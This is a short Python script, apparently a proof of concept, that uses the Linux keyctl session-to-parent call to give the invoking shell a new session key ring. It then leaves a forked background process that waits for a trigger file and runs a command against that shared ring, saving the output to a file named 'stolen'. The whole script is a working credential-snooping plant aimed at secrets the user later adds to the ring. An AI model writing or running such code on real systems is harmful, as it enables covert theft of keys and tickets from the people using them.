"""Gives the shell that started it its own key ring, and leaves somebody behind who waits
until a file `go` is there, and then runs a command with what is in that ring by then.

usage: plant.py COMMAND ARGUMENT…
"""
import ctypes
import os
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
KEYCTL = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
SESSION_TO_PARENT = 18

if libc.syscall(KEYCTL, SESSION_TO_PARENT, 0, 0, 0, 0) < 0:
    sys.exit(f"refused: {os.strerror(ctypes.get_errno())}")
if os.fork():
    sys.exit(0)
for _ in range(2000):
    if os.path.exists("go"):
        break
    time.sleep(0.01)
with open("stolen.new", "wb") as file:
    subprocess.run(sys.argv[1:], stdout=file, stderr=subprocess.DEVNULL)
os.rename("stolen.new", "stolen")
